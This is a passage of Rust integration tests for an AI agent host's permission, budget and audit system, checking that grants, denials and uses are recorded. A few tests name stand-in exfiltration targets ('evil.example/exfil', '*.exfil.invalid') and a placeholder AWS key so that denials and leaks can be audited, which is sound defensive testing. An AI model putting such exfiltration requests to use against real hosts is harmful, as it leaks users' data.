    let of = |plugin: &str, kind: &str| -> usize {
        let grant = |denial: &&Value| {
            let grant = denial["grant"].as_str();
            grant.is_some_and(|grant| grant.starts_with(kind))
        };
        denied
            .iter()
            .filter(|denial| denial["plugin"] == plugin)
            .filter(grant)
            .count()
    };
    assert_eq!(
        (of("probe-tool", "net"), of("probe-tool", "fs"), of("web", "net")),
        (32, 32, 1),
        "{denied:?}"
    );
    assert_eq!(denied.last().unwrap()["count"], 16, "8 of each further kind");
    let page = &output.stderr[output.stderr.find("denied: 81 times\n").unwrap()..];
    for words in [
        "probe-tool may not write /papers/0\n",
        "web may not send GET http://evil.example/exfil\n",
    ] {
        assert!(page.contains(words), "{words}: {page}");
    }
    let all = page
        .lines()
        .find_map(|line| line.strip_prefix("  all of it   "))
        .unwrap();
    let flags: Vec<&str> = all
        .split(" --allow ")
        .map(|flag| flag.trim_start_matches("--allow "))
        .collect();
    assert_eq!(flags.len(), 10, "eight, and one for each other plugin and kind: {all}");
    for flag in flags {
        assert!(page.contains(&format!("\n    --allow {flag}\n")), "{flag}: {page}");
    }
}

#[test]
fn a_childs_rights_are_its_own_and_what_it_lacks_is_told_as_its() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let site = site();
    let program = steps(&[
        fetch(&format!("http://{site}/page")),
        open(),
        json!({ "do": "recall", "layer": "Task", "query": "x", "limit": 1 }),
    ]);
    let child = ChildSpec::probe(&program)
        .with("toolsets", json!(["web"]))
        .with("grants", json!(["net:GET@other.example", "lessons:none"]));
    let net = format!("net:GET@http://{site}");
    let allow = ["--allow", &net, "--allow", "net:GET@other.example"];
    let root = steps(&[child.spawn(), join(0), fetch(&format!("http://{site}/page"))]);
    let output = home.host().args(allow).probe(&root).output().expect(0);
    let seen = output.seen();
    assert_eq!(refusal(&inside(&seen[1])[1]).as_deref(), Some("denied"), "{}", seen[1]);
    let run = run_of(&output);
    let rows = audit(&home, &run);
    assert_eq!(row(&rows, &[("way", json!("send"))])["role"], "root");
    let denied: Vec<&Value> = rows.iter().filter(|row| row["way"] == "denied").collect();
    assert_eq!(denied.len(), 3, "{rows:?}");
    for denial in denied {
        assert_eq!(
            (&denial["role"], &denial["session"]),
            (&json!("helper"), &json!(format!("{run}.1")))
        );
        assert!(denial["remedy"].as_str().unwrap().contains("above"), "{denial}");
    }
    let lacked = row(&rows, &[("plugin", json!("web")), ("way", json!("denied"))]);
    assert_eq!(lacked["flags"], json!([format!("--allow {net}")]));

    let agents = home
        .host()
        .args(["show", &run, "--grants", "--output", "json"])
        .output()
        .expect(0)
        .json();
    let grants = |of: &Value| -> Vec<String> {
        let grants = of["grants"].as_array().unwrap().iter();
        grants
            .map(|grant| grant["grant"].as_str().unwrap().to_owned())
            .collect()
    };
    let all = [
        net.as_str(),
        "net:GET@other.example",
        "blackboard",
        "llm",
        "delegation",
        "lessons",
    ];
    let mut root = grants(&agents[0]);
    root.sort();
    let mut expected = all.map(str::to_owned).to_vec();
    expected.sort();
    assert_eq!(root, expected);
    assert_eq!(
        grants(&agents[1]),
        ["net:GET@other.example", "blackboard:spill:ro", "llm", "delegation"]
    );
    assert_eq!(agents[1]["tools"].as_array().unwrap().len(), 1, "{agents}");
    assert_eq!(grants(&agents[1]["tools"][0]), ["net:GET@other.example"]);
}

#[test]
fn a_child_that_may_read_some_keys_within_a_budget_is_shown_so() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let space = json!([{ "space": "notes", "prefix": "mine/", "access": "ReadOnly" }]);
    let child = ChildSpec::probe(&steps(&[])).with("spaces", space);
    let child = child.limit("Iterations", 7).limit("Tokens", 5000);
    let program = steps(&[child.spawn(), join(0)]);
    let run = run_of(&home.host().args(["--deny", "llm"]).probe(&program).output().expect(0));
    let shown = |form: &[&str]| {
        home.host()
            .args(["show", &run, "--grants"])
            .args(form)
            .output()
            .expect(0)
    };
    let agents = shown(&["--output", "json"]).json();
    let mine = json!({ "grant": "blackboard:notes:ro", "about": "its run's, to read, keys below mine/", "own": false, "by_tools": false });
    let granted = agents[1]["grants"].as_array().unwrap();
    assert!(granted.contains(&mine), "{}", agents[1]);
    assert!(
        !granted.iter().any(|grant| grant["grant"] == "blackboard"),
        "{}",
        agents[1]
    );
    let budget = &agents[1]["budget"];
    assert_eq!(
        (&budget["iterations"], &budget["tokens"]),
        (&json!(7), &json!(5000)),
        "{budget}"
    );
    let text = shown(&[]).stdout;
    let all: Vec<String> = text
        .lines()
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect();
    let helper = all.iter().position(|line| line.starts_with("helper 1 probe ")).unwrap();
    assert_eq!(
        all[helper + 1],
        "blackboard:notes:ro its run's, to read, keys below mine/",
        "{text}"
    );
    // What else its parent has left to give stands behind that.
    let is_budget = |line: &&String| line.starts_with("budget iterations 7 · tokens 5.0k · ");
    assert_eq!(all[helper..].iter().filter(is_budget).count(), 1, "{text}");
}

#[test]
fn what_each_agent_may_spend_is_the_least_of_its_own_of_those_above_it_and_of_the_runs() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let plain = ChildSpec::probe(&steps(&[]));
    let bound = ChildSpec::probe(&steps(&[plain.spawn(), join(0)]));
    let bound = bound.limit("Iterations", 7).limit("Tokens", 4000);
    let program = steps(&[plain.spawn(), join(0), bound.spawn(), join(1)]);
    let budget = "tokens=5000,tool-calls=7,tree.iterations=20,wall=2m";
    let host = home.host().args(["--deny", "llm", "--budget", budget]);
    let run = run_of(&host.probe(&program).output().expect(0));
    let shown = |form: &[&str]| {
        let host = home.host().args(["show", &run, "--grants"]).args(form);
        host.output().expect(0)
    };
    let agents = shown(&["--output", "json"]).json();
    let spends = |agent: usize| {
        let budget = &agents[agent]["budget"];
        ["iterations", "tokens", "tool_calls"].map(|key| budget[key].as_u64().unwrap())
    };
    assert_eq!(agents.as_array().unwrap().len(), 4, "{agents}");
    assert_eq!(agents[3]["parent"], agents[2]["id"]);
    // The root would have 90 iterations by itself, and a child that names none 50.
    assert_eq!([spends(0), spends(1)], [[20, 5000, 7], [20, 5000, 7]], "{agents}");
    // Iterations are each agent's own; tokens are its parent's too.
    assert_eq!([spends(2), spends(3)], [[7, 4000, 7], [20, 4000, 7]], "{agents}");
    let walls = [0, 1, 2, 3].map(|agent| agents[agent]["budget"]["wall_clock_ms"].as_u64().unwrap());
    assert!(
        walls[0] == 120_000 && walls.is_sorted_by(|above, below| above >= below),
        "{walls:?}"
    );
    let text = shown(&[]).stdout;
    let root = "budget iterations 20 · tool-calls 7 · tokens 5.0k · wall 2 min · journal-bytes 64 MiB";
    assert!(text.lines().any(|line| line.trim() == root), "{text}");
}

#[test]
fn what_is_a_tools_own_is_marked() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let site = site();
    let net = format!("net:GET@http://{site}");
    let own = format!("web={net}");
    let program = steps(&[fetch(&format!("http://{site}/page"))]);
    let host = home.host().args(["--own", &own, "--allow", "net:GET@shared.example"]);
    let run = run_of(&host.probe(&program).output().expect(0));
    assert_eq!(row(&audit(&home, &run), &[("way", json!("send"))])["own"], true);
    let grants = |run: &str| {
        home.host()
            .args(["show", run, "--grants", "--output", "json"])
            .output()
            .expect(0)
            .json()
    };
    let agents = grants(&run);
    let web = agents[0]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|tool| tool["plugin"] == "web")
        .unwrap();
    let marks: Vec<(&Value, &Value)> = web["grants"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (&g["grant"], &g["own"]))
        .collect();
    assert!(marks.contains(&(&json!(net), &json!(true))), "{web}");
    assert!(
        marks.contains(&(&json!("net:GET@shared.example"), &json!(false))),
        "{web}"
    );
    let text = home.host().args(["show", &run, "--grants"]).output().expect(0).stdout;
    let line = text.lines().find(|line| line.contains(&net)).unwrap();
    assert!(line.contains("its own"), "{text}");
}

/// Nor is a right to read named as one to write.
#[test]
fn a_space_that_is_a_tools_own_is_named_as_it_is_granted() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let deeds = [
        json!({ "do": "open", "name": "gloss" }),
        json!({ "do": "get", "space": 0, "key": "k" }),
        put("k"),
    ];
    for (grant, ways) in [
        ("blackboard:gloss:ro", &["read"][..]),
        ("blackboard:gloss", &["write", "read"][..]),
    ] {
        let own = format!("probe-tool={grant}");
        let host = with_probe_tool(&home).args(["--own", &own]);
        let run = run_of(&host.probe(&steps(&[tool(&deeds)])).output().expect(0));
        let rows = audit(&home, &run);
        let used: Vec<&Value> = rows
            .iter()
            .filter(|row| row["target"] == "gloss/k" && row["way"] != "denied")
            .collect();
        assert_eq!(used.iter().map(|row| &row["way"]).collect::<Vec<_>>(), ways, "{rows:?}");
        for row in used {
            assert_eq!((&row["grant"], &row["own"]), (&json!(grant), &json!(true)), "{row}");
        }
        let shown = home.host().args(["show", &run, "--audit"]).output().expect(0).stdout;
        assert!(shown.contains(&format!("      {grant} · its own\n")), "{shown}");
    }
}

#[test]
fn a_resume_that_takes_rights_away_shows_in_them() {
    let server = ModelServer::start([Turn::fault(Fault::StallMidStream), Turn::text("a")]);
    let home = Home::with_model(&server, Format::OpenAi);
    let site = site();
    let net = format!("net:GET@http://{site}");
    let program = steps(&[
        open(),
        json!({ "do": "get", "space": 0, "key": "k" }),
        ask("1"),
        fetch(&format!("http://{site}/page")),
    ]);
    let host = home.host().args(["--allow", &net]).probe(&program);
    let run = stopped(&home, &server, host, Signal::KILL);
    let rows = audit(&home, &run);
    assert_eq!(
        lines(&home, &rows),
        ["probe ask llm test/test-model", "probe read blackboard notes/k"],
        "with the intent"
    );
    let output = resumed(&home, &run, &["--deny", "net"]).expect(0);
    let denied = output.json()["denied"].clone();
    assert_eq!(denied.as_array().unwrap().len(), 1, "{denied}");
    let rows = audit(&home, &run);
    assert_eq!(
        row(&rows, &[("way", json!("read"))])["count"],
        1,
        "what is told again is not done again"
    );
    assert_eq!(row(&rows, &[("way", json!("denied"))])["plugin"], "web");
    let text = home.host().args(["show", &run, "--grants"]).output().expect(0).stdout;
    assert!(!text.contains(&net), "{text}");
    home.host().args(["replay", &run]).output().expect(0);
}

#[test]
fn denials_met_before_a_crash_are_on_the_page_at_the_end() {
    let server = ModelServer::start([Turn::fault(Fault::StallMidStream), Turn::text("a")]);
    let home = Home::with_model(&server, Format::OpenAi);
    let recall = json!({ "do": "recall", "layer": "Task", "query": "x", "limit": 1 });
    let program = steps(&[recall.clone(), ask("1"), recall]);
    let host = home.host().args(["--deny", "lessons"]).probe(&program);
    let run = stopped(&home, &server, host, Signal::KILL);
    let output = resumed(&home, &run, &[]).expect(0);
    let denied = output.json()["denied"].clone();
    assert_eq!(
        (denied.as_array().unwrap().len(), &denied[0]["count"]),
        (1, &json!(2)),
        "{denied}"
    );
    assert!(output.stderr.contains("denied: 2 times\n"), "{}", output.stderr);
    let shown = home.host().args(["show", &run]).output().expect(0).stdout;
    assert!(
        shown.contains(&format!("2 denials       hermes-host show {run} --audit")),
        "{shown}"
    );
}

#[test]
fn a_call_that_was_cut_short_is_told_as_one_whose_uses_may_be_missing() {
    let server = ModelServer::start(Script::always(Turn::text("a")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a", "a\n");
    // Its model is asked once it has read: then the read is recorded with that.
    let inner = [
        files("read", "/papers/a", 1),
        ask("INSIDE"),
        files("read", "/papers/late", 1),
        json!({ "do": "spin" }),
    ];
    let program = steps(&[tool(&inner)]);
    let host = with_probe_tool(&home).args(["--allow", "fs:./papers", "--allow", "llm"]);
    let process = host.probe(&program).start();
    server.wait_for(1, LONG);
    let run = home.newest_run();
    let ended = || audit(&home, &run).iter().any(|row| row["way"] == "read");
    let until = std::time::Instant::now() + LONG;
    while !ended() {
        assert!(std::time::Instant::now() < until, "the read was never recorded");
    }
    process.signal(Signal::KILL);
    process.finish();
    let output = resumed(&home, &run, &[]).expect(0);
    assert_eq!(refusal(&output.seen()[0]).as_deref(), Some("interrupted"));
    let rows = audit(&home, &run);
    assert_eq!(row(&rows, &[("way", json!("read"))])["target"], "/papers/a");
    let cut = row(&rows, &[("way", json!("unfinished"))]);
    assert_eq!((&cut["target"], &cut["call"]), (&json!("probe"), &json!("1")), "{cut}");
    assert!(cut["message"].as_str().unwrap().contains("went down"), "{cut}");
    let shown = home.host().args(["show", &run, "--audit"]).output().expect(0).stdout;
    let words = "\n      unfinished\n        probe: the host went down while it ran";
    assert!(shown.contains(words), "{shown}");
}

#[test]
fn it_takes_no_part_in_a_replay_and_goes_along_in_a_file() {
    let server = ModelServer::start(Script::always(Turn::text("hello")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a", "a\n");
    let key = "AKIAIOSFODNN7EXAMPLE";
    let program = steps(&[
        ask("1"),
        open(),
        json!({ "do": "get", "space": 0, "key": "k" }),
        tool(&[files("read", "/papers/a", 1), open()]),
        json!({ "do": "get", "space": 0, "key": key }),
    ]);
    let host = with_probe_tool(&home).args(["--allow", "fs:./papers"]);
    let run = run_of(&host.probe(&program).output().expect(0));
    let before = audit(&home, &run);
    home.host().args(["replay", &run]).output().expect(0);
    assert_eq!(audit(&home, &run), before, "a replay writes nothing");
    assert!(!json!(before).to_string().contains(key), "{before:?}");
    let file = home.work().join("run.jsonl");
    home.host()
        .args(["export", &run, "--run-file"])
        .arg(&file)
        .output()
        .expect(0);
    let other = Home::new();
    other.host().arg("import").arg(&file).output().expect(0);
    assert_eq!(lines(&other, &audit(&other, &run)).len(), before.len());
}

#[test]
fn what_a_denial_is_about_is_cut() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let path = format!("/{}", "a".repeat(60_000));
    let send = json!({ "do": "send", "authority": "x.example", "path": path });
    let call = json!({ "do": "call", "name": "wasi", "arguments": { "steps": [send] } });
    let host = home.host().arg("--tool").arg(guests::built("probe-wasi"));
    let output = host.probe(&steps(&[call])).output().expect(0);
    let rows = audit(&home, output.json()["run"].as_str().unwrap());
    let denied = row(&rows, &[("way", json!("denied"))]);
    let target = denied["target"].as_str().unwrap();
    let whole = format!("GET http://x.example{path}");
    let (kept, missing) = (&whole[..1024], whole.len() - 1024);
    assert_eq!(target, format!("{kept}…[+{missing}]"));
    assert_eq!(denied["grant"], "net:GET@http://x.example");
}

#[test]
fn each_use_and_each_denial_is_an_event() {
    let server = ModelServer::start(Script::always(Turn::text("hello")));
    let home = Home::with_model(&server, Format::OpenAi);
    home.write("papers/a", "a\n");
    let program = steps(&[
        ask("1"),
        ask("2"),
        tool(&[files("read", "/papers/a", 1), files("remove", "/papers/a", 1)]),
    ]);
    let host = with_probe_tool(&home).args(["--allow", "fs:./papers"]);
    let events = host.probe_events(&program).output().expect(0).events();
    let of = |kind: &str| -> Vec<&Value> { events.iter().filter(|event| event["event"] == kind).collect() };
    let told = |event: &Value, keys: &[&str]| -> Value { keys.iter().map(|key| event[*key].clone()).collect() };
    let papers = home.work().canonicalize().unwrap().join("papers").display().to_string();
    let used = of("used");
    let keys = ["plugin", "way", "call", "grant", "target", "count", "failed"];
    let seen: Vec<Value> = used.iter().map(|event| told(event, &keys)).collect();
    // The second question is the first one's right, way and target again: it is counted, and no event.
    let expected = [
        json!(["probe", "ask", "1", "llm", "test/test-model", 1, 0]),
        json!(["probe-tool", "read", "3", format!("fs:{papers}"), "/papers/a", 1, 0]),
    ];
    assert_eq!(seen, expected);
    let run = events.iter().find_map(|event| event["run"].as_str()).unwrap();
    assert_eq!(row(&audit(&home, run), &[("way", json!("ask"))])["count"], 2);
    let denied = of("denied");
    assert_eq!(denied.len(), 1, "{denied:?}");
    let write = format!("fs:{papers}:rw");
    assert_eq!(
        told(denied[0], &["plugin", "call", "grant", "target", "flags", "count"]),
        json!(["probe-tool", "3", write, "/papers/a", [format!("--allow {write}")], 1])
    );
    for event in used.iter().chain(&denied) {
        assert_eq!(event["digest"].as_str().map(str::len), Some(64), "{event}");
        assert!(event["session"].as_str().unwrap().ends_with(".0"), "{event}");
    }
}

/// Whoever serves a name's zone hears of each name in it that is looked up.
#[test]
fn a_name_that_is_looked_up_is_told_whatever_comes_of_it() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let program = steps(&[tool(&[
        json!({ "do": "fetch", "url": "https://first-part.exfil.invalid/a?b" }),
        json!({ "do": "fetch", "url": "https://second-part.exfil.invalid/" }),
    ])]);
    let host = with_probe_tool(&home).args(["--allow", "net:*.exfil.invalid"]);
    let run = run_of(&host.probe(&program).output().expect(0));
    let rows = audit(&home, &run);
    for target in [
        "GET https://first-part.exfil.invalid/a",
        "GET https://second-part.exfil.invalid/",
    ] {
        let sent = row(&rows, &[("target", json!(target))]);
        assert_eq!(
            (&sent["way"], &sent["count"], &sent["failed"]),
            (&json!("send"), &json!(1), &json!(1)),
            "{sent}"
        );
        assert_eq!(sent["grant"], "net:*.exfil.invalid", "{sent}");
    }
}

#[test]
fn a_run_that_used_nothing_says_so() {
    let server = ModelServer::start(Vec::new());
    let home = Home::with_model(&server, Format::OpenAi);
    let run = run_of(&home.host().probe(&steps(&[])).output().expect(0));
    assert!(audit(&home, &run).is_empty());
    let text = home.host().args(["show", &run, "--audit"]).output().expect(0).stdout;
    assert!(text.contains("no right was used"), "{text}");
    for both in [
        ["--audit", "--grants"],
        ["--audit", "--answer"],
        ["--grants", "--answer"],
    ] {
        home.host().args(["show", &run]).args(both).output().expect(2);
    }
    home.host().args(["show", "0000000000", "--audit"]).output().expect(2);
}
